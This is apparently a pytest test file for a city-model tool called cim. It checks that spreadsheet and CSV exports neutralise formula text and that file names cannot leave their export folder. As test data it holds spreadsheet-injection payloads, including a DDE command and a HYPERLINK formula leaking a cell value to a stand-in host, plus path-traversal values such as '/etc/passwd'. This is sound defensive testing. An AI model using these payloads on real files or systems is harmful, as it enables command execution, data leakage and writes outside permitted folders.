"""Outputs cim writes stay safe: no live spreadsheet formula from model text, no file outside its folder,
and a bad `cim review --out` is a one-line usage error (exit 2) found before the review starts."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cim.checks import model_checks
from cim.cli import app
from cim.config import CityConfig, default_config, load_config
from cim.errors import ConfigError
from cim.files import OutputPathError, append_row, csv_text, safe_child
from cim.ingest.run import ingest_file
from cim.qto.run import export_csv, export_xlsx, takeoff
from cim.query import run_query
from cim.query_output import write_result
from cim.store import Store
from cim.tunnel import cobie
from tests.models import add_wall, new_model, write

CRS = "EPSG:4549"
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://example.invalid/?leak="&A1,"click")']
runner = CliRunner()


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def workbook_text(path: Path) -> set[str]:
    book = load_workbook(path)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture(scope="module")
def formula_model(tmp_path_factory) -> tuple[Store, Path]:
    """A model whose wall names and materials are spreadsheet formulas, ingested and taken off."""
    tmp = tmp_path_factory.mktemp("formulas")
    f, ctx = new_model()
    for i, text in enumerate(FORMULAS):
        add_wall(f, ctx, name=text, material=text, start=(i * 2.0, 0.0, 0.0), length=1.5)
    store = Store(tmp / "store", CRS)
    ingest_file(store, default_config(CRS), write(f, tmp / "formulas.ifc"))
    takeoff(store, "formulas")
    return store, tmp


def test_material_and_element_names_that_are_formulas_stay_text_in_the_takeoff_workbook(formula_model) -> None:
    store, tmp = formula_model

    path = export_xlsx(store, "formulas", tmp / "qto.xlsx")

    assert formula_cells(path) == []
    assert {t.replace("\r", "\n") for t in FORMULAS} <= workbook_text(path)  # as written (XML reads CR as LF)


def test_material_and_element_names_that_are_formulas_get_an_apostrophe_in_the_takeoff_csv(formula_model) -> None:
    store, tmp = formula_model

    quantities, summary = export_csv(store, "formulas", tmp / "csv")

    cells = [c for p in (quantities, summary) for row in csv.reader(p.open(newline="", encoding="utf-8"))
             for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {"'" + text for text in FORMULAS} <= set(cells)


def test_formula_text_in_query_csv_output_gets_an_apostrophe(formula_model, tmp_path: Path) -> None:
    store, _ = formula_model
    out = tmp_path / "q.csv"

    write_result(run_query(store, "SELECT name, -1.5 AS n FROM elements WHERE ifc_class = 'IfcWall' ORDER BY name"),
                 "csv", out, 0, None)

    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert sorted(r["name"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert {r["n"] for r in rows} == {"-1.5"}  # numbers stay numbers


def test_tunnel_asset_names_that_are_formulas_stay_text_in_the_cobie_workbook(monkeypatch, tmp_path: Path,
                                                                             tunnel_store) -> None:
    assets = [{"global_id": f"g{i}", "name": text, "ifc_class": "IfcPipeSegment", "asset_kind": "pipe",
               "manufacturer": text, "system": text, "version": 1} for i, text in enumerate(FORMULAS)]
    monkeypatch.setattr(cobie, "_rows", lambda store, table, model_id: assets if table == "tunnel_assets" else [])

    path = cobie.export_cobie(tunnel_store, "tunnel-binhai", tmp_path / "cobie.xlsx")

    assert formula_cells(path) == []
    assert {t.replace("\r", "\n") for t in FORMULAS} <= workbook_text(path)


def test_csv_text_and_append_row_leave_plain_values_alone(tmp_path: Path) -> None:
    from openpyxl import Workbook

    assert [csv_text(v) for v in ("Concrete C30", "a=b", "", None, -3, 2.5)] == ["Concrete C30", "a=b", "", None,
                                                                                 -3, 2.5]
    book = Workbook()
    append_row(book.active, ["=1+1", "plain", -3, None])
    assert [(c.value, c.data_type) for c in book.active[1]] == [("=1+1", "s"), ("plain", "s"), (-3, "n"),
                                                                (None, "n")]


@pytest.mark.parametrize("model_id", ["../escaped", "../../etc/x", "a/b", "a\\b", "..", "", "  ", "tab\there",
                                      "nul\x00", "rtl\u202egpj.exe", 42])
def test_a_model_id_that_is_not_one_plain_name_is_refused_when_the_config_is_loaded(tmp_path: Path,
                                                                                    model_id) -> None:
    path = tmp_path / "cim.toml"
    value = json.dumps(model_id)  # JSON string escapes are valid TOML basic-string escapes
    path.write_text(f'[city]\ncrs = "EPSG:4549"\n\n[models."tower.ifc"]\nmodel_id = {value}\n', encoding="utf-8")

    with pytest.raises(ConfigError) as err:
        load_config(path)

    line = err.value.one_line()
    assert str(path) in line and '[models."tower.ifc"] model_id' in line and "e.g. model_id" in line
    assert "\n" not in line


def test_ordinary_model_ids_are_accepted(tmp_path: Path) -> None:
    path = tmp_path / "cim.toml"
    path.write_text('[city]\ncrs = "EPSG:4549"\n[models."a.ifc"]\nmodel_id = "tower-a_2.v3"\n'
                    '[models."b.ifc"]\nmodel_id = "滨海 大厦"\n', encoding="utf-8")
    assert load_config(path).models["b.ifc"]["model_id"] == "滨海 大厦"


@pytest.mark.parametrize("name", ["../x.csv", "a/../../x", "/etc/passwd", "..", ".", "", "a\\b.csv", "x\ny"])
def test_safe_child_refuses_names_that_leave_the_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(OutputPathError, match="export file name"):
        safe_child(tmp_path / "exports", name, what="export file name")


def test_safe_child_keeps_plain_names_in_the_folder(tmp_path: Path) -> None:
    assert safe_child(tmp_path, "tower-a_quantities.csv") == tmp_path / "tower-a_quantities.csv"
    assert safe_child(tmp_path, ".._quantities.csv") == tmp_path / ".._quantities.csv"  # not '..' itself


def test_a_model_id_with_dot_dot_slash_never_writes_outside_the_export_folder(tmp_path: Path) -> None:
    """Even a model id that reached the store without cim.toml's check cannot steer an export."""
    f, ctx = new_model()
    add_wall(f, ctx, name="W1")
    (tmp_path / "deep" / "er").mkdir(parents=True)
    ifc = write(f, tmp_path / "deep" / "er" / "tower.ifc")
    store = Store(tmp_path / "store", CRS)
    config = CityConfig(path=None, name="c", crs=CRS, models={"tower.ifc": {"model_id": "../../escaped"}})
    assert ingest_file(store, config, ifc).model_ids == ["../../escaped"]
    exports = tmp_path / "deep" / "er" / "exports"

    (qto, *_) = model_checks(store, "../../escaped", ifc, exports=exports)

    assert not qto.ok and "path separator" in qto.message
    assert not [p for p in tmp_path.rglob("*escaped*") if p.is_file()]
    with pytest.raises(OutputPathError):
        export_csv(store, "../../escaped", exports)


@pytest.fixture(scope="module")
def city_store(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("review") / "store"
    Store(root, CRS)
    return root


@pytest.mark.parametrize("where", ["an existing file", "a folder under a file", "a place no one can create"])
def test_review_out_that_is_no_writable_folder_exits_2_with_one_line(tmp_path: Path, city_store: Path,
                                                                    where: str) -> None:
    existing = tmp_path / "report.html"
    existing.write_text("keep me")
    out = {"an existing file": existing, "a folder under a file": existing / "sub",
           "a place no one can create": Path("/proc/cim-review-out")}[where]
    model = tmp_path / "tower.ifc"
    model.write_text("ISO-10303-21;\n")

    result = runner.invoke(app, ["review", str(model), "--out", str(out), "--store", str(city_store)])

    assert result.exit_code == 2
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and str(out) in lines[0] and "--out" in lines[0], result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert existing.read_text() == "keep me"
